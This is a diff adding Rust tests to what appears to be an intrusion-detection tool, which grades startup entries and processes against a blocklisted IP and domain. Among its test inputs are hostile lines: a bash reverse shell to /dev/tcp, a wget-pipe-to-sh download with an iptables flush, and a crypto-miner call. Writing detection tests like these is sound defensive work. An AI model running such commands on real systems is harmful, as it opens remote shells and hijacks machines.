@@ -148,6 +148,74 @@ fn what_starts_by_itself_is_found_by_what_it_names_unless_a_package_has_it_so() 
 }
 
 #[test]
+fn an_entry_that_only_names_an_indicator_or_keeps_it_out_is_not_confirmed() {
+    let book = list("203.0.113.7\n");
+    let told = |content: &str| {
+        let (kind, path) = ("rc-local", b"/etc/rc.local");
+        let entry = Entry { kind, path, content: content.as_bytes(), packaged: None };
+        grade(&book.of_entry(&entry, today()), Rule::Indicator)
+    };
+    assert_eq!(told("#!/bin/sh\n# blocked since May: 203.0.113.7\nexit 0\n"), None);
+    for keeps in [
+        "iptables -A OUTPUT -d 203.0.113.7 -j DROP",
+        "/usr/sbin/nft add rule inet f output ip daddr 203.0.113.7 drop",
+        "ufw deny out to 203.0.113.7 && curl -s https://watch.example/alive",
+        "ip route add blackhole 203.0.113.7/32",
+    ] {
+        assert_eq!(told(keeps), Some(Grade::Noted), "{keeps}");
+    }
+    assert_eq!(told("UPSTREAM=203.0.113.7"), Some(Grade::Suspect));
+    for from in [
+        "true; wget -qO- http://203.0.113.7/x | sh; iptables -F",
+        "/opt/a -o stratum+tcp://203.0.113.7:443 -u w",
+        "bash -i >& /dev/tcp/203.0.113.7/443 0>&1",
+    ] {
+        assert_eq!(told(from), Some(Grade::Confirmed), "{from}");
+    }
+}
+
+#[test]
+fn who_keeps_an_indicator_out_or_resolves_it_for_others_is_not_called_by_it() {
+    let book = list("work.example\n203.0.113.7\n");
+    let of = |exe: &'static str, arguments: &[&'static str]| {
+        let seen = Seen { exe: exe.as_bytes(), ..process(arguments) };
+        grade(&book.of_process(&seen, today()), Rule::Indicator)
+    };
+    let rule = ["nft", "add", "rule", "ip", "f", "o", "ip", "daddr", "203.0.113.7", "drop"];
+    assert_eq!(of("/usr/sbin/nft", &rule), Some(Grade::Noted));
+    let drop = ["iptables", "-A", "OUTPUT", "-d", "203.0.113.7", "-j", "DROP"];
+    assert_eq!(of("/usr/sbin/xtables-nft-multi", &drop), Some(Grade::Noted));
+    assert_eq!(of("/usr/bin/sudo", &["sudo", "nft", "203.0.113.7"]), Some(Grade::Noted));
+    let ufw = ["/usr/bin/python3", "/usr/sbin/ufw", "deny", "203.0.113.7"];
+    assert_eq!(of("/usr/bin/python3.12", &ufw), Some(Grade::Noted));
+    let asked = |exe: &'static str, title: &'static str| {
+        let seen = Seen { exe: exe.as_bytes(), ..process(&[title]) };
+        grade(&book.of_name(b"eu.work.example", Some(&seen), today()), Rule::Indicator)
+    };
+    let resolved = "/usr/lib/systemd/systemd-resolved";
+    assert_eq!(asked(resolved, resolved), Some(Grade::Noted));
+    assert_eq!(asked("/usr/sbin/unbound", "unbound"), Some(Grade::Noted));
+    assert_eq!(asked("/opt/a", "unbound"), Some(Grade::Suspect));
+}
+
+#[test]
+fn who_only_calls_itself_a_tool_is_confirmed_by_its_words() {
+    let book = list("203.0.113.7\n");
+    let of = |exe: &'static str, title: &'static str| {
+        let arguments = [title, "-o", "203.0.113.7:443"];
+        let seen = Seen { exe: exe.as_bytes(), ..process(&arguments) };
+        grade(&book.of_process(&seen, today()), Rule::Indicator)
+    };
+    assert_eq!(of("/root/m", "grep"), Some(Grade::Confirmed));
+    assert_eq!(of("/opt/m", "dig"), Some(Grade::Confirmed));
+    assert_eq!(of("/tmp/grep", "grep"), Some(Grade::Confirmed), "anybody may put it there");
+    assert_eq!(of("/usr/bin/grep", "grep"), Some(Grade::Noted));
+    assert_eq!(of("/usr/bin/vim.basic", "vi"), Some(Grade::Noted));
+    assert_eq!(of("/bin/busybox", "grep"), Some(Grade::Noted));
+    assert_eq!(of("", "grep"), Some(Grade::Noted), "its executable cannot be read");
+}
+
+#[test]
 fn what_a_process_has_in_its_files_and_its_memory_is_found_too() {
     let book = list("work.example\n");
     let file =
